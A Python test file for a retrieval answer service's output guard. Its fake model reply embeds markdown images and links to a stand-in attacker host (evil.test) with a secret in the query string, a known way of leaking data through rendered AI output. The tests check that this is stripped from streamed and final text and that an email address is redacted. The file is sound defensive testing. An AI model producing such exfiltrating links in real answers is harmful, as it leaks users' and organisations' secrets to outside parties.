"""The answer service's way out (``AnswerService._guarded`` with ``AnswerGuard``): a fake
model reply split at awkward points never puts a disallowed URL in a token event; the final
answer, citation quotes and verification sentences are filtered; ``redact_answers`` redacts
PII in streamed and final text. The model is faked by the events it would produce."""

from __future__ import annotations

from collections.abc import AsyncIterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest

from groundwire.answering.service import AnswerDelta, AnswerDone, AnswerRestart, AnswerService
from groundwire.domain import Answer, Citation, Hit, SearchRequest
from groundwire.safety.output_filter import AnswerGuard, OutputFilter
from groundwire.settings import PiiPolicySettings

REPLY = ("The Team plan costs 12 dollars per user [1]. ![chart](https://evil.test/c.png?"
         "leak=ACME-SECRET) Details: [pricing](http://evil.test/p?k=ACME-SECRET) or "
         "[the docs](https://docs.example.com/pricing). Mail bob.smith@example.com.")
SPLITS = [1, 7, 40, 49, 50, 51, 60, 75, 76, 77, 95, 110, 111, 130, 160, 171]


def hit(text: str) -> Hit:
    return Hit(chunk_id=1, document_id=7, uri="billing/pricing.md", title="Pricing", text=text,
               heading_path=("Plans",), char_start=0, char_end=len(text), score=1.0)


def final_answer() -> Answer:
    h = hit("The Team plan costs 12 dollars. Contact bob.smith@example.com. "
            "![x](https://evil.test/i.png)")
    return Answer(
        question="cost?", text=REPLY, abstained=False,
        citations=(Citation(1, h, "Contact bob.smith@example.com ![x](https://evil.test/i.png)"),),
        hits=(h,), confidence=0.9, answerer="llm",
        verification=({"text": "![chart](https://evil.test/c.png) x", "cited": [1]},),
    )


def service(policy: str) -> AnswerService:
    guard = AnswerGuard(OutputFilter(["docs.example.com"]),
                        policy_for=PiiPolicySettings(default=policy).for_index)  # type: ignore[arg-type]
    return AnswerService(retriever=None, answerer=None, passages=5,  # type: ignore[arg-type]
                         encode_pool=ThreadPoolExecutor(1), guard=guard)


async def events(parts: list[str], restart_at: int | None = None
                 ) -> AsyncIterator[Any]:
    for i, part in enumerate(parts):
        if restart_at == i:
            yield AnswerRestart("llm.timeout", "primary")
        yield AnswerDelta(part)
    yield AnswerDone(final_answer())


def split(text: str, points: list[int]) -> list[str]:
    cuts = [p for p in points if p < len(text)]
    return [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]


async def run(svc: AnswerService, parts: list[str], **kw: Any) -> tuple[list[str], Answer]:
    tokens: list[str] = []
    done: Answer | None = None
    async for event in svc._guarded(SearchRequest("cost?"), events(parts, **kw)):
        if isinstance(event, AnswerDelta):
            tokens.append(event.text)
        elif isinstance(event, AnswerDone):
            done = event.answer
    assert done is not None
    return tokens, done


@pytest.mark.parametrize("parts", [
    split(REPLY, SPLITS), list(REPLY), split(REPLY, list(range(3, len(REPLY), 3))),
])
async def test_streamed_tokens_never_carry_a_disallowed_url(parts: list[str]) -> None:
    tokens, answer = await run(service("allow"), parts)
    for token in tokens:
        assert "evil.test" not in token and "ACME-SECRET" not in token
    streamed = "".join(tokens)
    assert "[the docs](https://docs.example.com/pricing)" in streamed
    assert "pricing" in streamed and "12 dollars per user [1]." in streamed
    assert answer.text == OutputFilter(["docs.example.com"]).filter(REPLY)
    assert "evil.test" not in answer.text
    assert "evil.test" not in answer.citations[0].quote
    assert "evil.test" not in answer.verification[0]["text"]
    assert "bob.smith@example.com" in answer.text  # policy allow: PII untouched


async def test_a_restart_drops_what_was_held() -> None:
    parts = ["Intro [link](http://evil", ".test/x) more", " text. "]
    tokens, _ = await run(service("allow"), parts, restart_at=1)
    assert "".join(tokens).startswith("Intro ")
    assert all("evil" not in t for t in tokens)


async def test_redact_answers_redacts_stream_and_final_answer() -> None:
    tokens, answer = await run(service("redact_answers"), split(REPLY, SPLITS))
    streamed = "".join(tokens)
    assert "bob.smith@example.com" not in streamed and "<EMAIL>" in streamed
    assert "bob.smith@example.com" not in answer.text
    assert "bob.smith@example.com" not in answer.citations[0].quote
    assert "bob.smith@example.com" not in answer.citations[0].hit.text
    assert "bob.smith@example.com" not in answer.hits[0].text
    assert "evil.test" not in streamed
